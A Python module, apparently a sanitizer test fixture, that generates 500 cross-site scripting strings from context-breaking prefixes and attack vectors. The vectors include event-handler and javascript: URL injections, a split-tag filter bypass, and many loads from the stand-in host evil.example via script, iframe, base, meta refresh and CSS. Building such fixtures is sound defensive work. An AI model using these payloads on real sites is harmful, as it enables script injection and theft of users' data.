"""Five hundred ways to make a page run a script or ask another host: each way out of a context times each vector. R156.

`owned(n)` exists nowhere: a script that ran would be an error of the page. Each fits an id.
"""

from itertools import product

BREAKERS = ("", '"', "'", '">', "'>", "</script>", "</title>", "</textarea>", "-->", "]]>", "</select></table>", "`}};", '\\"')
"""What may end the place that a text was put into."""

VECTORS = (
    "<script>owned({n})</script>",
    "<script src=//evil.example/{n}></script>",
    "<ScRiPt >owned({n})</sCrIpT >",
    "<scr<script>ipt>owned({n})</scr</script>ipt>",
    "<img src=x onerror=owned({n})>",
    "<img src=//evil.example/{n}>",
    "<img srcset='//evil.example/{n} 1x'>",
    "<svg onload=owned({n})>",
    "<svg><script href=//evil.example/{n}></script></svg>",
    "<svg><animate onbegin=owned({n}) attributeName=x dur=1s>",
    "<math><a xlink:href=javascript:owned({n})>x</a></math>",
    "<iframe src=//evil.example/{n}></iframe>",
    "<iframe srcdoc='<script>owned({n})</script>'>",
    "<object data=//evil.example/{n}></object>",
    "<embed src=//evil.example/{n}>",
    "<video src=//evil.example/{n} onerror=owned({n})></video>",
    "<audio src=x onerror=owned({n})></audio>",
    "<input autofocus onfocus=owned({n})>",
    "<select autofocus onfocus=owned({n})>",
    "<details open ontoggle=owned({n})>",
    "<marquee onstart=owned({n})>",
    "<body onload=owned({n})>",
    "<base href=//evil.example/{n}/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<link rel=stylesheet href=//evil.example/{n}>",
    "<style>@import'//evil.example/{n}';</style>",
    "<style>*{{background:url(//evil.example/{n})}}</style>",
    "<form action=//evil.example/{n}><button>Claim</button></form>",
    "<a href=javascript:owned({n})>click</a>",
    "<a href=//evil.example/{n} ping=//evil.example/{n}>click</a>",
    "<owned-x data-n={n}></owned-x>",
    "<template><owned-x>{n}</owned-x></template>",
    "<noscript><img src=x onerror=owned({n})></noscript>",
    "<table background=//evil.example/{n}>",
    " onmouseover=owned({n}) style=position:fixed;inset:0 x=",
    " autofocus tabindex=1 onfocus=owned({n}) x=",
    "<!--><img src=x onerror=owned({n})>",
    "<![CDATA[><script>owned({n})</script>]]>",
    "<dialog open>Your session has ended {n}</dialog>",
)
"""What would run, or ask another host, once it is out."""

PAYLOADS = tuple((breaker + vector.format(n=n)).strip() for n, (breaker, vector) in enumerate(product(BREAKERS, VECTORS)))[:500]


def at(number: int) -> str:
    """One of them; numbers go round."""
    return PAYLOADS[number % len(PAYLOADS)]
